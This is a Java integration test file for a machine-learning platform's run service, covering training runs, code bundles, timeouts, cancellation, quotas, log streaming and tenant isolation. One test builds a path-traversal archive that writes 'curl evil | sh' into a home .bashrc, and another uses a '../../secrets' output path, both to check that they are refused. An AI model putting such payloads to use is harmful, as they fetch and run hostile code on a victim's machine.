package io.slipway.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.slipway.devstack.SampleModels;
import io.slipway.it.support.Api;
import io.slipway.it.support.Buckets;
import io.slipway.it.support.CodeBundles;
import io.slipway.it.support.Poll;
import io.slipway.it.support.ApiTestBase;
import io.slipway.it.support.Digests;
import io.slipway.it.support.TestOrg;
import io.slipway.it.support.Users;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Runs on the local pool with real tokens: how they end (exit code, timeout, cancel), their logs (plain and
 * followed), quotas and fair share between organizations, refusals at submission, roles and tenants, and the run
 * token's reach. bob is data-scientist, dave viewer, erin of another organization, root platform admin.
 */
class RunsIT extends ApiTestBase {

    private static final Map<String, Object> SMALL = Map.of("cpu", 0.1, "memoryMib", 64);

    @TempDir
    Path scratch;

    private TestOrg acme;

    @BeforeEach
    void aFreshOrganization() {
        acme = TestOrg.create(api);
    }

    @Test
    void theBuiltInTrainerTurnsADatasetVersionIntoAModelVersionItsStarterCannotApprove() {
        byte[] csv = Digests.read(SampleModels.trainingCsv(scratch));
        Api.Reply dataset = uploads.raw(Users.token("bob"), acme.projectPath()
                + "/datasets/flowers/versions?fileName=flowers.csv", "text/csv", csv);
        assertThat(dataset.status()).as("%s", dataset).isEqualTo(201);

        JsonNode run = start(acme, "bob", Map.of("name", "first flowers model",
                "command", List.of("slipway-train", "tabular", "--target", SampleModels.LABEL, "--steps", "4"),
                "inputs", List.of("flowers:1"), "params", Map.of("learner", "logistic"),
                "outputs", List.of(Map.of("path", "model.onnx", "model", "flowers")),
                "resources", Map.of("cpu", 1, "memoryMib", 768)));
        JsonNode ended = awaitRun(acme, run, r -> ended(r));
        String log = api.get(Users.token("bob"), runPath(acme, run) + "/logs").body();

        assertThat(ended.path("state").asText()).as("%s\n%s", ended, log).isEqualTo("succeeded");
        assertThat(ended.path("outputModels").get(0).asText()).isEqualTo("flowers:1");
        assertThat(log).contains("stdout step 4: accuracy");
        JsonNode series = api.get(Users.token("dave"), runPath(acme, run) + "/metrics").json();
        assertThat(series.path("accuracy")).hasSize(4);
        assertThat(series.path("auc")).hasSize(4);
        JsonNode version = api.get(Users.token("dave"), acme.projectPath() + "/models/flowers/versions/1").json();
        assertThat(version.path("format").asText()).isEqualTo("onnx");
        assertThat(version.path("metrics").path("accuracy").asDouble()).isGreaterThan(0.8);
        assertThat(version.path("params").path("learner").asText()).isEqualTo("logistic");
        assertThat(version.path("run").asText()).isEqualTo(run.path("id").asText());
        assertThat(version.path("datasets").get(0).asText()).isEqualTo("flowers:1");
        JsonNode lineage = api.get(Users.token("dave"), acme.projectPath()
                + "/lineage?node=model-version:flowers:1&depth=2").json();
        String runNode = "run:" + run.path("id").asText();
        assertThat(lineage.path("nodes").findValuesAsText("id")).contains("dataset-version:flowers:1", runNode);
        assertThat(lineage.path("edges")).anySatisfy(edge -> {
            assertThat(edge.path("from").asText()).isEqualTo("dataset-version:flowers:1");
            assertThat(edge.path("to").asText()).isEqualTo(runNode);
        }).anySatisfy(edge -> {
            assertThat(edge.path("from").asText()).isEqualTo(runNode);
            assertThat(edge.path("to").asText()).isEqualTo("model-version:flowers:1");
        });

        Api.Reply requested = api.post(Users.token("bob"), acme.projectPath() + "/promotions", Map.of("model",
                "flowers", "version", 1, "targetStage", "production", "justification", "trained on flowers:1"));
        assertThat(requested.status()).as("%s", requested).isEqualTo(201);
        String promotion = acme.projectPath() + "/promotions/" + requested.json().path("id").asText();
        Api.Reply bobApproves = api.post(Users.token("bob"), promotion + "/approve", Map.of("comment", "mine"));
        Api.Reply carolApproves = api.post(Users.token("carol"), promotion + "/approve", Map.of("comment", "ok"));
        assertThat(bobApproves.status()).isEqualTo(403);
        assertThat(carolApproves.status()).as("%s", carolApproves).isEqualTo(200);
    }

    @Test
    void aRunStartsFromItsCodeBundleUnpackedInItsWorkingDirectory() {
        byte[] bundle = CodeBundles.tarGz(Map.of("train.sh", "#!/bin/sh\necho \"from the bundle in $PWD\"\n"
                + "cat conf/settings.txt\n", "conf/settings.txt", "learning rate 0.01\n"));
        String bundles = acme.projectPath() + "/code-bundles";
        Api.Reply uploaded = uploads.raw(Users.token("bob"), bundles + "?fileName=train.tar.gz", "application/gzip",
                bundle);
        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
        String id = uploaded.json().path("id").asText();
        assertThat(uploaded.json().path("format").asText()).isEqualTo("tar.gz");
        assertThat(uploaded.json().path("files").asInt()).isEqualTo(2);
        assertThat(uploads.raw(Users.token("carol"), bundles, "application/octet-stream", bundle).json()
                .path("id").asText()).as("the same bytes are the same bundle").isEqualTo(id);

        JsonNode run = start(acme, "bob", Map.of("command", List.of("./train.sh"), "codeBundle", id,
                "resources", SMALL));
        JsonNode ended = awaitRun(acme, run, r -> ended(r));
        String log = api.get(Users.token("dave"), runPath(acme, run) + "/logs").body();

        assertThat(ended.path("state").asText()).as("%s\n%s", ended, log).isEqualTo("succeeded");
        assertThat(ended.path("codeBundle").asText()).isEqualTo(id);
        assertThat(log).containsPattern("stdout from the bundle in \\S+/code").contains("stdout learning rate 0.01");
        assertThat(api.get(Users.token("dave"), bundles).json().findValuesAsText("id")).containsExactly(id);
        assertThat(api.get(Users.token("dave"), bundles + "/" + id).json().path("sha256").asText())
                .isEqualTo(uploaded.json().path("sha256").asText());
        assertThat(api.get(Users.token("erin"), bundles + "/" + id).status()).as("another organization's member")
                .isEqualTo(404);
        assertThat(actions(acme)).contains("code-bundle.uploaded");
    }

    @Test
    void aBundleThatIsNoSafeArchiveIsRefusedAndLeavesNothingAndRunsNameOnlyTheirProjectsBundles() {
        String bundles = acme.projectPath() + "/code-bundles";
        java.util.Set<String> before = Buckets.keys(acme);
        byte[] escaping = CodeBundles.tarGz(Map.of("../../home/slipway/.bashrc", "curl evil | sh\n"));

        Api.Reply unsafe = uploads.raw(Users.token("bob"), bundles + "?fileName=x.tar.gz", "application/gzip",
                escaping);
        Api.Reply notAnArchive = uploads.raw(Users.token("bob"), bundles + "?fileName=train.py", "text/x-python",
                "print('hi')\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        Api.Reply byViewer = uploads.raw(Users.token("dave"), bundles, "application/gzip",
                CodeBundles.tarGz(Map.of("a.py", "1")));
        Api.Reply unknown = api.post(Users.token("bob"), acme.projectPath() + "/runs", Map.of("command",
                List.of("true"), "codeBundle", java.util.UUID.randomUUID().toString()));

        assertThat(unsafe.status()).as("%s", unsafe).isEqualTo(400);
        assertThat(unsafe.contentType()).startsWith("application/problem+json");
        assertThat(unsafe.body()).contains("not a relative path inside the bundle").contains("\"field\":\"file\"");
        assertThat(notAnArchive.status()).isEqualTo(400);
        assertThat(notAnArchive.body()).contains("tar, tar.gz or zip");
        assertThat(byViewer.status()).isEqualTo(403);
        Api.Reply escapingOutput = api.post(Users.token("bob"), acme.projectPath() + "/runs", Map.of("command",
                List.of("true"), "outputs", List.of(Map.of("path", "../../secrets/model.onnx", "model", "m"))));
        assertThat(escapingOutput.status()).as("%s", escapingOutput).isEqualTo(400);
        assertThat(escapingOutput.body()).contains("must be a relative path inside the output directory");
        assertThat(unknown.status()).as("%s", unknown).isEqualTo(422);
        assertThat(unknown.json().path("errors").findValuesAsText("field")).contains("codeBundle");
        assertThat(Buckets.keys(acme)).as("a refused bundle leaves no object").isEqualTo(before);
        assertThat(api.get(Users.token("bob"), bundles).json()).isEmpty();
        assertThat(api.get(Users.token("erin"), bundles).status()).isEqualTo(404);
    }

    @Test
    void aRunThatExitsThreeFailsWithItsExitCodeAndItsLastLines() {
        JsonNode run = start(acme, "bob", List.of("sh", "-c", "echo preparing; echo 'bad input on line 7' >&2; exit 3"));

        JsonNode ended = awaitRun(acme, run, r -> ended(r));
        assertThat(ended.path("state").asText()).isEqualTo("failed");
        assertThat(ended.path("exitCode").asInt()).isEqualTo(3);
        assertThat(ended.path("reason").asText()).contains("exited with code 3").contains("bad input on line 7");
        String log = api.get(Users.token("dave"), runPath(acme, run) + "/logs").body();
        assertThat(log).containsPattern("(?m)^\\S+Z stdout preparing$")
                .containsPattern("(?m)^\\S+Z stderr bad input on line 7$");
        assertThat(actions(acme)).contains("run.queued", "run.started", "run.ended");
    }

    @Test
    void aRunPastItsTimeoutIsTimedOutAndItsProcessTreeIsGone() {
        JsonNode run = start(acme, "bob", Map.of("command", List.of("sh", "-c", "sleep 300 & echo child=$!; wait"),
                "timeoutSeconds", 2, "resources", SMALL));

        JsonNode ended = awaitRun(acme, run, r -> ended(r));
        assertThat(ended.path("state").asText()).isEqualTo("timed_out");
        assertThat(ended.path("reason").asText()).contains("timeout of 2 s");
        Matcher child = Pattern.compile("stdout child=(\\d+)").matcher(
                api.get(Users.token("bob"), runPath(acme, run) + "/logs").body());
        assertThat(child.find()).as("the run logged its child's pid").isTrue();
        long pid = Long.parseLong(child.group(1));
        ProcessHandle.of(pid).ifPresent(handle -> handle.onExit().join());
        assertThat(ProcessHandle.of(pid).filter(ProcessHandle::isAlive)).as("the child of the timed-out run").isEmpty();
    }

    @Test
    void cancelEndsARunningRunWithinTwoSeconds() {
        JsonNode run = start(acme, "bob", List.of("sh", "-c", "echo started; sleep 300"));
        awaitLog(acme, run, "stdout started");

        long before = System.nanoTime();
        Api.Reply cancel = api.post(Users.token("bob"), runPath(acme, run) + "/cancel", Map.of());
        JsonNode ended = awaitRun(acme, run, r -> ended(r));
        Duration took = Duration.ofNanos(System.nanoTime() - before);

        assertThat(cancel.status()).as("%s", cancel).isEqualTo(200);
        assertThat(ended.path("state").asText()).isEqualTo("cancelled");
        assertThat(took).as("cancel to cancelled").isLessThan(Duration.ofSeconds(2));
        System.out.println("RunsIT: cancel took effect in " + took.toMillis() + " ms");
        Api.Reply again = api.post(Users.token("bob"), runPath(acme, run) + "/cancel", Map.of());
        assertThat(again.status()).isEqualTo(409);
    }

    @Test
    void aSecondRunWaitsForItsOrganizationsQuotaWhileAnotherOrganizationRuns() {
        TestOrg globex = TestOrg.create(api);
        Api.Reply quota = api.put(Users.token("root"), acme.path() + "/quotas/local-cpu", Map.of("maxConcurrentRuns", 1));
        assertThat(quota.status()).as("%s", quota).isEqualTo(200);

        JsonNode first = start(acme, "bob", List.of("sh", "-c", "echo first; sleep 300"));
        awaitRun(acme, first, r -> r.path("state").asText().equals("running"));
        JsonNode second = start(acme, "bob", List.of("sh", "-c", "echo second"));
        JsonNode other = start(globex, "bob", List.of("sh", "-c", "echo other; sleep 300"));

        JsonNode waiting = awaitRun(acme, second, r -> r.path("queueReason").asText().startsWith("quota"));
        assertThat(waiting.path("state").asText()).isEqualTo("queued");
        assertThat(waiting.path("queuePosition").asInt()).isEqualTo(1);
        assertThat(waiting.path("queueReason").asText()).isEqualTo("quota: " + acme.slug()
                + " has 1 of 1 concurrent run on local-cpu running");
        awaitRun(globex, other, r -> r.path("state").asText().equals("running"));
        JsonNode quotas = api.get(Users.token("alice"), acme.path() + "/quotas").json();
        JsonNode localCpu = find(quotas, "local-cpu");
        assertThat(localCpu.path("maxConcurrentRuns").asInt()).isEqualTo(1);
        assertThat(localCpu.path("runsRunning").asInt()).isEqualTo(1);

        api.post(Users.token("bob"), runPath(acme, first) + "/cancel", Map.of());
        JsonNode secondEnded = awaitRun(acme, second, r -> ended(r));
        assertThat(secondEnded.path("state").asText()).isEqualTo("succeeded");
        api.post(Users.token("bob"), runPath(globex, other) + "/cancel", Map.of());
        awaitRun(globex, other, r -> ended(r));
    }

    @Test
    void whatCanNeverRunIsRefusedAtSubmission() {
        Api.Reply gpu = api.post(Users.token("bob"), acme.projectPath() + "/runs", Map.of("command", List.of("true"),
                "resources", Map.of("gpus", 1)));
        Api.Reply unknownPool = api.post(Users.token("bob"), acme.projectPath() + "/runs",
                Map.of("pool", "no-such-pool", "command", List.of("true")));
        Api.Reply tooLarge = api.post(Users.token("bob"), acme.projectPath() + "/runs",
                Map.of("command", List.of("true"), "resources", Map.of("cpu", 1000)));
        Api.Reply reserved = api.post(Users.token("bob"), acme.projectPath() + "/runs",
                Map.of("command", List.of("true"), "env", Map.of("SLIPWAY_RUN_TOKEN", "mine")));
        Api.Reply noCommand = api.post(Users.token("bob"), acme.projectPath() + "/runs", Map.of("name", "empty"));
        Api.Reply unknownInput = api.post(Users.token("bob"), acme.projectPath() + "/runs",
                Map.of("command", List.of("true"), "inputs", List.of("nothing:1")));

        assertThat(gpu.status()).as("%s", gpu).isEqualTo(422);
        assertThat(gpu.isProblem()).isTrue();
        assertThat(gpu.json().path("detail").asText()).contains("has no GPUs");
        assertThat(gpu.json().path("errors").findValuesAsText("field")).contains("resources.gpus");
        assertThat(unknownPool.status()).isEqualTo(422);
        assertThat(tooLarge.status()).isEqualTo(422);
        assertThat(tooLarge.json().path("detail").asText()).contains("this run asks for 1000 CPUs");
        assertThat(reserved.status()).isEqualTo(400);
        assertThat(noCommand.status()).isEqualTo(400);
        assertThat(unknownInput.status()).isEqualTo(422);
        assertThat(api.get(Users.token("bob"), acme.projectPath() + "/runs").json().path("items")).isEmpty();
    }

    @Test
    void followingALogStreamsItsLinesAsTheyAreWrittenUntilTheRunEnds() throws Exception {
        JsonNode run = start(acme, "bob", List.of("sh", "-c",
                "for i in 1 2 3; do echo line $i; sleep 0.3; done"));
        HttpRequest follow = HttpRequest.newBuilder(api.base().resolve(runPath(acme, run) + "/logs?follow=true"))
                .header("Authorization", "Bearer " + Users.token("dave")).timeout(Duration.ofSeconds(60)).build();
        HttpResponse<java.io.InputStream> response = HttpClient.newHttpClient().send(follow,
                HttpResponse.BodyHandlers.ofInputStream());
        List<String> events = new ArrayList<>();
        try (BufferedReader lines = new BufferedReader(new InputStreamReader(response.body(), StandardCharsets.UTF_8))) {
            String line;
            while ((line = lines.readLine()) != null) {
                if (!line.isEmpty()) {
                    events.add(line);
                }
            }
        }
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("text/event-stream");
        assertThat(events).anyMatch(e -> e.endsWith("stdout line 1")).anyMatch(e -> e.endsWith("stdout line 3"));
        assertThat(events.subList(events.size() - 2, events.size())).containsExactly("event: end", "data: succeeded");
    }

    @Test
    void viewersReadRunsButDoNotStartThemAndOtherOrganizationsSeeNothing() {
        JsonNode run = start(acme, "bob", List.of("sh", "-c", "echo hello"));
        awaitRun(acme, run, r -> ended(r));

        Api.Reply daveStarts = api.post(Users.token("dave"), acme.projectPath() + "/runs",
                Map.of("command", List.of("true")));
        Api.Reply daveCancels = api.post(Users.token("dave"), runPath(acme, run) + "/cancel", Map.of());
        Api.Reply daveReads = api.get(Users.token("dave"), runPath(acme, run));
        Api.Reply erinReads = api.get(Users.token("erin"), runPath(acme, run));
        Api.Reply erinLogs = api.get(Users.token("erin"), runPath(acme, run) + "/logs");
        Api.Reply erinMetrics = api.get(Users.token("erin"), runPath(acme, run) + "/metrics");
        Api.Reply erinCancels = api.post(Users.token("erin"), runPath(acme, run) + "/cancel", Map.of());
        Api.Reply erinLists = api.get(Users.token("erin"), acme.projectPath() + "/runs");
        Api.Reply erinQuotas = api.get(Users.token("erin"), acme.path() + "/quotas");
        Api.Reply bobQuotas = api.get(Users.token("bob"), acme.path() + "/quotas");

        assertThat(daveStarts.status()).isEqualTo(403);
        assertThat(daveCancels.status()).isEqualTo(403);
        assertThat(daveReads.status()).isEqualTo(200);
        assertThat(daveReads.json().path("createdBy").asText()).isEqualTo("bob");
        assertThat(erinReads.status()).isEqualTo(404);
        assertThat(erinLogs.status()).isEqualTo(404);
        assertThat(erinMetrics.status()).isEqualTo(404);
        assertThat(erinCancels.status()).isEqualTo(404);
        assertThat(erinLists.status()).isEqualTo(404);
        assertThat(erinQuotas.status()).isEqualTo(404);
        assertThat(bobQuotas.status()).isEqualTo(403);
    }

    @Test
    void aRunTokenReportsMetricsForItsOwnRunAndReachesNothingElse() {
        JsonNode other = start(acme, "bob", List.of("sh", "-c", "echo other; sleep 300"));
        JsonNode run = start(acme, "bob", List.of("sh", "-c", "echo token=$SLIPWAY_RUN_TOKEN; sleep 300"));
        String line = awaitLog(acme, run, "stdout token=");
        String token = line.substring(line.indexOf("token=") + "token=".length()).strip();
        String own = "run-api/v1/runs/" + run.path("id").asText();

        Api.Reply first = api.post(token, own + "/metrics", Map.of("step", 1, "metrics", Map.of("accuracy", 0.81)));
        Api.Reply second = api.post(token, own + "/metrics", Map.of("metrics", Map.of("accuracy", 0.9, "loss", 0.2)));
        Api.Reply reads = api.get(token, own);
        Api.Reply otherRun = api.post(token, "run-api/v1/runs/" + other.path("id").asText() + "/metrics",
                Map.of("metrics", Map.of("accuracy", 1.0)));
        Api.Reply theApi = api.get(token, acme.projectPath() + "/runs");
        Api.Reply notANumber = api.send(token, "POST", own + "/metrics", "application/json",
                "{\"metrics\": {\"accuracy\": \"high\"}}");
        Api.Reply noToken = api.post(null, own + "/metrics", Map.of("metrics", Map.of("accuracy", 1.0)));

        assertThat(first.status()).as("%s", first).isEqualTo(200);
        assertThat(second.status()).as("%s", second).isEqualTo(200);
        assertThat(reads.status()).isEqualTo(200);
        assertThat(reads.json().path("metrics").path("accuracy").asDouble()).isEqualTo(0.9);
        assertThat(otherRun.status()).isEqualTo(404);
        assertThat(theApi.status()).as("a run token on the API").isEqualTo(401);
        assertThat(notANumber.status()).isEqualTo(400);
        assertThat(noToken.status()).isEqualTo(401);
        JsonNode series = api.get(Users.token("dave"), runPath(acme, run) + "/metrics").json();
        assertThat(series.path("accuracy").findValuesAsText("step")).containsExactly("1", "2");
        assertThat(series.path("loss").findValuesAsText("step")).containsExactly("2");

        api.post(Users.token("bob"), runPath(acme, run) + "/cancel", Map.of());
        api.post(Users.token("bob"), runPath(acme, other) + "/cancel", Map.of());
        awaitRun(acme, run, r -> ended(r));
        awaitRun(acme, other, r -> ended(r));
        Api.Reply afterTheEnd = api.post(token, own + "/metrics", Map.of("metrics", Map.of("accuracy", 1.0)));
        assertThat(afterTheEnd.status()).as("the token once its run ended").isEqualTo(401);
    }

    @Test
    void poolsShowTheirCapacityAndOnlyPlatformAdminsDefineThem() {
        JsonNode pools = api.get(Users.token("bob"), "api/v1/pools").json();
        JsonNode localCpu = find(pools, "local-cpu");
        assertThat(localCpu.path("backend").asText()).isEqualTo("local");
        assertThat(localCpu.path("capacity").path("cpus").asDouble()).isPositive();
        assertThat(localCpu.path("capacity").path("gpus").asInt()).isZero();

        Map<String, Object> gpuPool = Map.of("name", "h100-test", "backend", "kubernetes", "accelerator",
                "nvidia-h100", "gpusPerNode", 8, "nodes", 2, "cpusPerNode", 96, "memoryMibPerNode", 1_048_576,
                "nodeSelector", Map.of("pool", "h100"), "purposes", List.of("training"));
        Api.Reply bobDefines = api.post(Users.token("bob"), "api/v1/pools", gpuPool);
        Api.Reply rootDefines = api.post(Users.token("root"), "api/v1/pools", gpuPool);
        Api.Reply mismatch = api.post(Users.token("root"), "api/v1/pools", Map.of("name", "odd", "backend", "local",
                "accelerator", "nvidia-h100", "cpusPerNode", 1, "memoryMibPerNode", 1024));

        assertThat(bobDefines.status()).isEqualTo(403);
        assertThat(rootDefines.status()).as("%s", rootDefines).isEqualTo(200);
        assertThat(rootDefines.json().path("capacity").path("gpus").asInt()).isEqualTo(16);
        assertThat(mismatch.status()).isEqualTo(400);
        Api.Reply onKubernetes = api.post(Users.token("bob"), acme.projectPath() + "/runs",
                Map.of("pool", "h100-test", "command", List.of("true")));
        assertThat(onKubernetes.status()).as("a kubernetes pool runs images").isEqualTo(400);
        assertThat(onKubernetes.json().path("errors").findValuesAsText("field")).contains("image");
    }

    private JsonNode start(TestOrg org, String user, List<String> command) {
        return start(org, user, Map.of("command", command, "resources", SMALL));
    }

    private JsonNode start(TestOrg org, String user, Map<String, Object> body) {
        Api.Reply started = api.post(Users.token(user), org.projectPath() + "/runs", body);
        assertThat(started.status()).as("%s", started).isEqualTo(201);
        return started.json();
    }

    private static String runPath(TestOrg org, JsonNode run) {
        return org.projectPath() + "/runs/" + run.path("id").asText();
    }

    private static boolean ended(JsonNode run) {
        return List.of("succeeded", "failed", "cancelled", "timed_out").contains(run.path("state").asText());
    }

    private static JsonNode find(JsonNode array, String name) {
        for (JsonNode item : array) {
            if (name.equals(item.path("name").asText()) || name.equals(item.path("pool").asText())) {
                return item;
            }
        }
        throw new AssertionError("No " + name + " in " + array);
    }

    private List<String> actions(TestOrg org) {
        return api.get(Users.token("alice"), org.path() + "/audit?limit=100").json().path("items")
                .findValuesAsText("action");
    }

    /** The run once {@code until} holds of it (checked every 20 ms, for at most 60 s). */
    private JsonNode awaitRun(TestOrg org, JsonNode run, Predicate<JsonNode> until) {
        return poll(() -> api.get(Users.token("dave"), runPath(org, run)).json(), until, "run " + run.path("id"));
    }

    /** The first log line containing {@code text}, once the run wrote it. */
    private String awaitLog(TestOrg org, JsonNode run, String text) {
        String log = poll(() -> api.get(Users.token("dave"), runPath(org, run) + "/logs").body(),
                body -> body.contains(text), "log line '" + text + "'");
        return log.lines().filter(line -> line.contains(text)).findFirst().orElseThrow();
    }

    private static <T> T poll(java.util.function.Supplier<T> read, Predicate<T> until, String what) {
        return Poll.until(read, until, Duration.ofSeconds(60), what);
    }
}
